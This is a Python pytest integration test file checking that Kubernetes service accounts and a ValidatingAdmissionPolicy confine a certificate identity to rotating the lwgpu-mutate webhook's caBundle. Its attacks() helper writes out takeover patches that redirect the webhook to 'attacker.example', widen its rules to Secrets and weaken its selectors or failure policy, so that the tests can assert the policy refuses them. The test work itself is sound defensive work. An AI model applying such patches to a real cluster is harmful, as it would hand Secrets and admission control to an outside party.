"""The certificate identities on the real apiserver, as installed from deploy/: what each may
do (`kubectl auth can-i`, the table of docs/SECURITY.md), the CA key out of the Secret the
webhook mounts, and ValidatingAdmissionPolicy lwgpu-certs (deploy/base/certs-policy.yaml)
confining the install's `patch` to the caBundle.

The writes are made with a real token of ServiceAccount lwgpu-certs (TokenRequest, as kubelet
gets the pod's), against the installed lwgpu-mutate. Each forbidden change is refused with the
policy's message; with the policy's binding deleted, the same request, as a server-side dry
run (admission runs, nothing is stored), is accepted: the policy is what stops it. A refused
request changes nothing, so the installation stays as the session's other tests expect it.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime

import pytest
import yaml
from cryptography.hazmat.primitives.serialization import Encoding
from kubernetes import client
from kubernetes.client.exceptions import ApiException

from certs.authority import Spec, issue_ca
from tests.support.paths import REPO
from tools.cluster.install import NAMESPACE, render
from tools.waiting import wait_for
from webhook.kube.client import api_client

POLICY = "lwgpu-certs"
DENIED = (
    'mutatingwebhookconfigurations.admissionregistration.k8s.io "lwgpu-mutate" is forbidden: '
    f"ValidatingAdmissionPolicy '{POLICY}' with binding '{POLICY}' denied request: "
)
FIELDS = "lwgpu-certs may change only webhooks[*].clientConfig.caBundle of lwgpu-mutate: "
HOOK = "not the clientConfig URL or service, rules, selectors, failurePolicy or any other"
SECURITY = REPO / "docs" / "SECURITY.md"
CLUSTER_SCOPED = {
    "mutatingwebhookconfigurations",
    "validatingwebhookconfigurations",
    "validatingadmissionpolicies",
    "validatingadmissionpolicybindings",
    "nodes",
}
LABELLED = {"op": "add", "path": "/metadata/labels/owned", "value": "yes"}


def admission_as(lwgpu, account: str) -> client.AdmissionregistrationV1Api:
    """The admissionregistration API as `account` of lwgpu's namespace, with a real token."""
    kubeconfig = lwgpu.kubelet.token_kubeconfig(NAMESPACE, account)
    return client.AdmissionregistrationV1Api(api_client(str(kubeconfig)))


def patch(api, ops: list[dict], dry_run: bool = False) -> str | None:
    """JSON-patch lwgpu-mutate; None when accepted, else the apiserver's message."""
    extra = {"dry_run": "All"} if dry_run else {}
    try:
        api.patch_mutating_webhook_configuration(
            "lwgpu-mutate", ops, _content_type="application/json-patch+json", **extra
        )
    except ApiException as exc:
        return str(json.loads(exc.body)["message"])
    return None


def webhook(lwgpu) -> dict:
    """lwgpu-mutate's one webhook, as stored."""
    config = lwgpu.plane.kubectl(
        "get", "mutatingwebhookconfiguration", "lwgpu-mutate", "-o", "json"
    )
    hook: dict = json.loads(config.stdout)["webhooks"][0]
    return hook


def attacks(hook: dict) -> dict[str, list[dict]]:
    """The changes issue 33 made with this account's token before the policy: each is a JSON
    patch of lwgpu-mutate, and each would take the webhook over or switch it off."""
    outside = {
        "url": "https://attacker.example/mutate",
        "caBundle": hook["clientConfig"]["caBundle"],
    }
    secrets = {
        "apiGroups": [""],
        "apiVersions": ["v1"],
        "operations": ["CREATE", "UPDATE"],
        "resources": ["secrets"],
        "scope": "*",
    }
    flipped = {"Ignore": "Fail", "Fail": "Ignore"}[hook["failurePolicy"]]
    return {
        "clientConfig to an outside URL": [
            {"op": "replace", "path": "/webhooks/0/clientConfig", "value": outside}
        ],
        "rules widened to Secrets": [
            {"op": "add", "path": "/webhooks/0/rules/-", "value": secrets}
        ],
        "namespaceSelector emptied": [
            {"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}
        ],
        f"failurePolicy {flipped}": [
            {"op": "replace", "path": "/webhooks/0/failurePolicy", "value": flipped}
        ],
        "matchConditions dropped": [{"op": "remove", "path": "/webhooks/0/matchConditions"}],
    }


def ca_bundle_patch(lwgpu, b64: str) -> list[dict]:
    return [{"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": b64}]


def test_the_ca_key_is_only_in_the_ca_secret_and_the_webhook_mounts_the_pair(lwgpu):
    def data(kind: str, name: str) -> dict:
        stored = lwgpu.plane.kubectl("get", kind, name, "-n", NAMESPACE, "-o", "json").stdout
        return json.loads(stored)["data"]

    assert set(data("secret", "lwgpu-webhook-tls")) == {"tls.crt", "tls.key"}
    assert set(data("secret", "lwgpu-ca")) == {"ca.crt", "ca.key"}
    bundle = data("configmap", "lwgpu-ca-bundle")
    assert bundle == {
        "ca.crt": base64.b64decode(webhook(lwgpu)["clientConfig"]["caBundle"]).decode()
    }
    for pod in lwgpu.webhook:
        mounted = {p.name for p in pod.volumes["tls"].iterdir() if not p.name.startswith(".")}
        assert mounted == {"tls.crt", "tls.key"}


def can_i_table() -> list[tuple[str, str, str, bool]]:
    """The rows of docs/SECURITY.md's "What each identity may do" table."""
    text = SECURITY.read_text()
    table = text.split("## What each identity may do", 1)[1].split("\n## ", 1)[0]
    rows = re.findall(r"^\| `([\w-]+)` \| (\w+) \| `([\w./-]+)` \| (yes|no) \|", table, re.M)
    return [
        (account, verb, resource, allowed == "yes") for account, verb, resource, allowed in rows
    ]


def test_each_identity_may_do_what_docs_security_md_says(lwgpu):
    rows = can_i_table()
    assert len(rows) >= 20 and {r[0] for r in rows} >= {"lwgpu-certs", "lwgpu-certs-rotate"}
    wrong = []
    for account, verb, resource, allowed in rows:
        where = [] if resource.split("/")[0] in CLUSTER_SCOPED else ["-n", NAMESPACE]
        done = lwgpu.plane.kubectl(
            "auth", "can-i", verb, resource, *where,
            f"--as=system:serviceaccount:{NAMESPACE}:{account}", check=False,
        )  # fmt: skip
        if done.stdout.strip() != ("yes" if allowed else "no"):
            wrong.append((account, verb, resource, done.stdout.strip()))
    assert wrong == []


def test_the_rotation_runs_as_its_own_identity(lwgpu):
    """The shipped CronJob's command with the rotation's token: it has the rights it needs
    (nothing is due, so it reads and writes nothing)."""
    [cronjob] = [
        o
        for o in yaml.safe_load_all(render(lwgpu.plane))
        if o and o["kind"] == "CronJob" and o["metadata"]["name"] == "lwgpu-certs-rotate"
    ]
    container = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
    assert container["command"] == ["python", "-m", "certs"]
    kubeconfig = lwgpu.kubelet.token_kubeconfig(NAMESPACE, "lwgpu-certs-rotate")
    done = subprocess.run(
        [sys.executable, "-m", "certs", *container["args"], "--kubeconfig", str(kubeconfig)],
        cwd=REPO,
        env={k: v for k, v in os.environ.items() if not k.startswith("KUBE")},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"Secret {NAMESPACE}/lwgpu-webhook-tls: unchanged\n"


def test_the_install_identity_may_rotate_the_ca_bundle(lwgpu):
    api, before = admission_as(lwgpu, "lwgpu-certs"), webhook(lwgpu)["clientConfig"]["caBundle"]
    extra, _ = issue_ca(Spec("lwgpu-webhook", NAMESPACE), datetime.now(UTC))
    wider = base64.b64encode(base64.b64decode(before) + extra.public_bytes(Encoding.PEM)).decode()
    assert patch(api, ca_bundle_patch(lwgpu, wider)) is None
    assert webhook(lwgpu)["clientConfig"]["caBundle"] == wider
    assert patch(api, ca_bundle_patch(lwgpu, before)) is None
    assert webhook(lwgpu)["clientConfig"]["caBundle"] == before


def test_the_rotation_identity_may_not_touch_the_webhook(lwgpu):
    api = admission_as(lwgpu, "lwgpu-certs-rotate")
    same = webhook(lwgpu)["clientConfig"]["caBundle"]
    message = patch(api, ca_bundle_patch(lwgpu, same))
    assert message is not None and "is forbidden: User" in message  # RBAC, before admission


@pytest.fixture
def binding(lwgpu):
    """Binding lwgpu-certs as installed; `delete()` it for a while, put back at the end."""

    class Binding:
        def __init__(self) -> None:
            [self.obj] = [
                o
                for o in yaml.safe_load_all(render(lwgpu.plane))
                if o
                and o["kind"] == "ValidatingAdmissionPolicyBinding"
                and o["metadata"]["name"] == POLICY
            ]
            self.deleted = False

        def delete(self) -> None:
            lwgpu.plane.kubectl("delete", "validatingadmissionpolicybinding", POLICY)
            self.deleted = True

    made = Binding()
    yield made
    if made.deleted:
        lwgpu.plane.kubectl("apply", "--server-side", "-f", "-", input=json.dumps(made.obj))
        api, labelled = admission_as(lwgpu, "lwgpu-certs"), [LABELLED]
        wait_for(lambda: patch(api, labelled, dry_run=True), timeout=30, what="policy bound")


def test_every_other_change_is_refused_and_only_by_the_policy(lwgpu, binding):
    api, hook = admission_as(lwgpu, "lwgpu-certs"), webhook(lwgpu)
    changes = attacks(hook)
    labelled = [LABELLED]
    for what, ops in changes.items():
        for dry_run in (False, True):
            assert patch(api, ops, dry_run) == DENIED + FIELDS + HOOK + " field of a webhook", what
    assert patch(api, labelled) == (
        DENIED + FIELDS + "not its metadata (labels, annotations, owners, finalizers)"
    )
    assert webhook(lwgpu) == hook

    binding.delete()
    # The admission plugin learns of the deletion from its informer, a moment later.
    first = next(iter(changes.values()))
    wait_for(lambda: patch(api, first, dry_run=True) is None, timeout=30, what="policy unbound")
    accepted = {
        what: patch(api, ops, dry_run=True) for what, ops in {**changes, "labels": labelled}.items()
    }
    assert accepted == dict.fromkeys(accepted)
    assert webhook(lwgpu) == hook


CREATE_POLICY = "lwgpu-certs-create"
MAY_CREATE = (
    "lwgpu-certs may create only Secrets lwgpu-ca and lwgpu-webhook-tls and ConfigMap"
    " lwgpu-ca-bundle: not "
)


def create_as(lwgpu, kind: str, metadata: dict, dry_run: bool = True) -> tuple[int, str]:
    """A server-side dry-run create of an empty Secret or ConfigMap as lwgpu-certs: (201 or the
    error's status, the apiserver's message)."""
    kubeconfig = lwgpu.kubelet.token_kubeconfig(NAMESPACE, "lwgpu-certs")
    core = client.CoreV1Api(api_client(str(kubeconfig)))
    made = getattr(core, f"create_namespaced_{kind}")
    body = {"apiVersion": "v1", "kind": kind.title().replace("_", ""), "metadata": metadata}
    try:
        made(NAMESPACE, body, dry_run="All" if dry_run else None)
    except ApiException as exc:
        return exc.status, str(json.loads(exc.body)["message"])
    return 201, ""


def test_the_install_identity_creates_only_its_own_three_objects(lwgpu):
    """RBAC grants lwgpu-certs `create` on any Secret and ConfigMap of the namespace; the
    policy lwgpu-certs-create refuses every name but its three. Its own names pass the policy
    and meet the stored objects (409), which only the registry answers, after admission."""
    refused = f"ValidatingAdmissionPolicy '{CREATE_POLICY}' with binding '{CREATE_POLICY}' denied"
    others = {
        "secret named other": ("secret", {"name": "other"}, "secrets other"),
        "generated Secret name": ("secret", {"generateName": "lwgpu-ca-"}, "secrets lwgpu-ca-"),
        "ConfigMap named as a Secret": ("config_map", {"name": "lwgpu-ca"}, "configmaps lwgpu-ca"),
    }
    for what, (kind, metadata, named) in others.items():
        status, message = create_as(lwgpu, kind, metadata)
        assert status == 403 and refused in message and MAY_CREATE + named in message, what
    own = [
        ("secret", "lwgpu-ca"),
        ("secret", "lwgpu-webhook-tls"),
        ("config_map", "lwgpu-ca-bundle"),
    ]
    for kind, name in own:
        status, message = create_as(lwgpu, kind, {"name": name})
        assert (status, "already exists" in message) == (409, True), (name, message)
